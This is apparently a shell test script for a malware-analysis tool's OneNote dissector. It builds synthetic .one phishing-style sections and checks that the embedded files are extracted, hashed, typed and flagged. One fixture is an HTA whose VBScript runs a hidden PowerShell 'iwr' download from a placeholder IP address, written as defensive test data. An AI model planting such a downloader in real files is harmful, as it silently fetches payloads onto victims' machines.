# OneNote dissector: sections built at test time ([MS-ONESTORE] header
# GUID, FileDataStoreObjects holding an .hta and a small PE as the 2023
# phishing .one files did, padding and footers) give their embedded files
# as onenote-file children, byte for byte; a cut object and a .onetoc2.
# SPDX-License-Identifier: Apache-2.0
. "$ART_SOURCE_DIR/tests/cli/lib.sh"
need jq /usr/bin/python3 sha256sum
S=$ART_BIN/art-surface
export XDG_CACHE_HOME=$T/cache

/usr/bin/python3 - "$T" <<'PY'
import hashlib, struct, sys, uuid
t = sys.argv[1]
ONE = uuid.UUID("7B5C52E4-D88C-4DA7-AEB1-5337BA2D84AD").bytes_le
TOC2 = uuid.UUID("43FF2FA1-EFD9-4C76-9EE2-10EA5722765F").bytes_le
HDR = uuid.UUID("BDE316E7-2665-4511-A4C4-8D4D0B7A9EAC").bytes_le
FTR = uuid.UUID("71FBA722-0F79-4A0B-BB13-899256426B24").bytes_le
def fdso(data):
    pad = (-len(data)) % 8
    return HDR + struct.pack("<QIQ", len(data), 0, 0) + data + b"\0" * pad + FTR
hta = b'<html><script language="VBScript">CreateObject("WScript.Shell").Run "powershell -w hidden iwr http://198.51.100.20/p"</script></html>\n'
pe = b"MZ\x90\x00" + b"\x00" * 56 + bytes(range(256)) * 4
one = ONE + b"\0" * 1008 + b"revision store data" + fdso(hta) + b"\x11" * 100 + fdso(pe) + b"\0" * 64
open(t + "/lure.one", "wb").write(one)
open(t + "/ref.tsv", "w").write("".join(hashlib.sha256(x).hexdigest() + "\n" for x in (hta, pe)))
cut = one[: one.index(pe) + 100]
open(t + "/cut.one", "wb").write(cut)
open(t + "/toc.onetoc2", "wb").write(TOC2 + b"\0" * 2000)
PY

"$S" --no-yara "$T/lure.one" "$T/toc.onetoc2" >"$T/our.jsonl"
jq -r 'select(.lineage.via == "onenote-file") | .hashes.sha256' "$T/our.jsonl" >"$T/our.tsv"
check "embedded files given byte for byte, in order (2)" diff "$T/ref.tsv" "$T/our.tsv"
check "summary: section, 2 files with offsets, sizes, footers; flagged" \
  test "$(jq -r 'select(.lineage.id == 0 and .name == "lure.one") | "\(.onenote.format) \(.onenote.file_count) \([.onenote.files[] | .footer] | all) \(.flags | index("onenote_embedded_file") != null)"' "$T/our.jsonl")" = \
  "section 2 true true"
check "children typed by content: HTML (the HTA) and an MZ executable" \
  test "$(jq -r 'select(.lineage.via == "onenote-file") | .type.mime' "$T/our.jsonl" | tr '\n' ' ')" = "text/html application/x-dosexec "
check "lineage: offset of the FileDataStoreObject" \
  test "$(jq -r 'select(.lineage.via == "onenote-file") | .lineage.onenote_offset' "$T/our.jsonl" | head -1)" = 1043
check "a table of contents without files: recognised, nothing yielded" \
  test "$(jq -r 'select(.name == "toc.onetoc2") | "\(.onenote.format) \(.onenote.file_count)"' "$T/our.jsonl")" = "toc 0"

expect_rc 0 "a cut section is examined" "$S" --no-yara -o "$T/cut.jsonl" "$T/cut.one"
check "cut: first file whole, second given cut and marked, error names the input" \
  test "$(jq -r 'select(.lineage.id == 0) | "\(.onenote.partial) \(.errors | map(select(test("cut.one: onenote: embedded file at offset [0-9]+ cut"))) | length)"' "$T/cut.jsonl") $(jq -r 'select(.lineage.via == "onenote-file") | .flags | index("truncated_by_dissector") != null' "$T/cut.jsonl" | tr '\n' ' ')" = \
  "true 1 false true "
finish
